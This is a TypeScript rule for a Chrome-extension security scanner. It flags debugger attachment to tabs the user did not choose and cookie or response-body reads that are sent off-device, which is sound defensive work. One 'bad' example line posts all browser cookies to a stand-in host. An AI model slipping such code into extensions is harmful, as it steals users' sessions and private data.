import { callsOf, constant, keysOf } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { backgroundExample, checkScripts } from './checkScripts.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { leavesBy } from './sendings.ts';
import { functionOf } from '../../program/functionOf.ts';
import { callsWithin } from '../../program/callsWithin.ts';
import { first } from '../../facts/first.ts';
import { COMES_LATER, COMES_OFTEN } from '../../models/unaskedEvents.ts';
import { say } from '../../../texts/say.ts';

export const debuggerOnEveryTab = defineRule({
  id: 'debugger-on-every-tab',
  title: 'Attaches the debugger to tabs without being asked',
  severity: 'high',
  confidence: 'medium',
  category: 'code',
  applies: 'extension',
  cwe: 'CWE-506',
  references: ['https://developer.chrome.com/docs/extensions/reference/api/debugger'],
  why: 'The debugger reads and changes everything in a page, including passwords and encrypted traffic. It bypasses every other limit on extensions.',
  remedy: 'Attach only to the tab the user chose, after a click, and detach when done.',
  check: checkScripts(function* ({ script, hit }) {
    if (callsOf(script, 'chrome.debugger.attach', 'chrome.debugger.sendCommand').length === 0) return;
    const alone = new Set(
      first(callsOf(script, ...COMES_OFTEN, ...COMES_LATER)).flatMap((call) => {
        const fn = functionOf(script, call.args[0] ?? 0);
        return fn === undefined ? [] : callsWithin(script, fn).map((inner) => inner.value);
      }),
    );
    const all = new Set(
      callsOf(script, 'chrome.tabs.query')
        .filter((call) => keysOf(script, call.args[0] ?? 0).length === 0)
        .map((call) => call.value),
    );
    for (const call of callsOf(script, 'chrome.debugger.attach')) {
      const origins = all.size === 0 ? undefined : backwardSlice(script, call.args[0] ?? 0);
      if (alone.has(call.value) || [...all].some((query) => origins?.has(query) === true)) yield hit(call.value);
    }
    for (const call of callsOf(script, 'chrome.debugger.sendCommand')) {
      if (
        !/^(Network\.getResponseBody|Network\.getAllCookies|Network\.getCookies|Storage\.getCookies|Fetch\.getResponseBody|Network\.getRequestPostData)$/.test(
          constant(script, call.args[1] ?? 0) ?? '',
        )
      )
        continue;
      const out = leavesBy(script, new Set([call.value]), ['network']);
      if (out !== undefined)
        yield hit(call.value, {
          severity: 'critical',
          ...(alone.size > 0 && callsOf(script, 'chrome.debugger.attach').some(({ value }) => alone.has(value))
            ? { confidence: 'high' as const }
            : {}),
          message: say('reading-sent-to', out.to),
        });
    }
  }),
  examples: {
    bad: [
      backgroundExample(
        'chrome.tabs.onUpdated.addListener((tabId) => { chrome.debugger.attach({ tabId }, "1.3", () => {}); });',
      ),
      backgroundExample(
        'chrome.debugger.sendCommand({ tabId }, "Network.getAllCookies", {}, (r) => { fetch("https://x.example/c", { method: "POST", body: JSON.stringify(r.cookies) }); });',
      ),
    ],
    good: [
      backgroundExample(
        'chrome.action.onClicked.addListener(async () => { const [tab] = await chrome.tabs.query({ active: true, currentWindow: true }); chrome.debugger.attach({ tabId: tab.id }, "1.3"); });',
      ),
      backgroundExample(
        'chrome.action.onClicked.addListener((tab) => { chrome.debugger.attach({ tabId: tab.id }, "1.3"); });',
      ),
      backgroundExample(
        'chrome.tabs.onUpdated.addListener((id) => badge(id)); chrome.debugger.onDetach.addListener(stop); chrome.debugger.sendCommand(t, "Network.getAllCookies", {}, (r) => show(r));',
      ),
    ],
  },
});
